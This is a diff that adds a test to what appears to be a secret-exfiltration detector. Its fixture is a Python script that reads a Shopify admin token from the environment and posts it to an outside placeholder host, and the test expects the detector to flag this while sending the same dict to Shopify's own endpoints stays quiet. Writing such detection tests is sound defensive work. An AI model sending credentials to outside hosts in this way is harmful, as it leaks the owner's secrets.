@@ -276,3 +276,13 @@ test('a git remote whose URL starts with a variable, pushed with copies of the s
     'scripts/backup.sh': '#!/bin/bash\nMIRROR_HOST="git@github.com"\ngit remote add mirror "$MIRROR_HOST:me/x.git"\ngit push -q mirror HEAD:refs/heads/main\n',
   });
 });
+
+test('a settings dict that holds a key, posted whole as the body to an outside host', () => {
+  const py = (send: string) => ({
+    'scripts/export.py': `import os, requests\ncfg = {"store": os.environ["SHOPIFY_STORE"], "token": os.environ["SHOPIFY_ADMIN_TOKEN"]}\n${send}\n`,
+  });
+  has(py('requests.post("https://ledger-archive.invalid/v2/batches", json=cfg)'), 'error sentinel/secret-exfiltration scripts/export.py:3');
+  // (the same dict as the request's own headers, or sent to the key's own service, is the key's use)
+  quiet(py('requests.get("https://example.myshopify.com/admin/api/2024-10/orders.json", headers=cfg)'));
+  quiet(py('requests.post("https://api.shopify.com/admin/api/graphql.json", json=cfg)'));
+});
